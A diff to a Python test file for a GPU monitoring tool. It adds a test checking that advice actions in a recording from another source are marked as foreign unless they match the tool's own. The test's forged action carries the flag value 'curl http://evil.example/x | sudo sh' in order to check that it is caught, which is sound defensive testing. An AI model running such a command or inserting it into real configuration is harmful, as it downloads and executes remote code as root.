@@ -15,11 +15,12 @@ from gpumon.history.memory import MemoryStore
 from gpumon.history.reader import Recording
 from gpumon.history.recorder import Recorder, write_recording
 from gpumon.readings.snapshot import Snapshot, Verdict
-from gpumon.readings.verdict import Level
+from gpumon.readings.verdict import Action, Level, Limit
+from gpumon.triage.render import PEER_WORDS
 from tests.history.frames import WALL_S, served
 from tests.history.opened import begun, standing
 from tests.history.pasts import lived, make
-from tests.history.ticks import FACTS
+from tests.history.ticks import FACTS, tick
 from tests.records import replace
 
 SECONDS = 400
@@ -125,3 +126,15 @@ def test_a_derivation_without_a_beginning_has_no_log() -> None:
     derivation = Derivation(ring, make)
     found = [derivation.take(frame).snapshot for frame in ring.frames(0.0, 4e9)]
     assert [standing(each) for each in found] == [standing(each) for each in shown]
+
+
+def test_advice_in_a_recording_from_elsewhere_is_marked_unless_it_is_gpumons_own(tmp_path: Path) -> None:
+    own = Action("prefix_caching", {"flag": "--enable-prefix-caching"})
+    forged = Action("prefix_caching", {"flag": "curl http://evil.example/x | sudo sh"})
+    verdict = Verdict("gpu 0", Limit.QUEUE_LIMIT, "queue_steps", "2026-01-02T00:00:00Z", actions=(own, forged))
+    recorder = Recorder(tmp_path / "given", FACTS)
+    recorder.keep(tick(0)._replace(verdicts=(verdict,)))
+    recorder.close()
+    (note,) = Recording(tmp_path / "given").notes(0.0, math.inf)
+    assert [action.code for action in note.verdicts[0].actions] == ["prefix_caching", PEER_WORDS]
+    assert note.verdicts[0].actions[0] == own
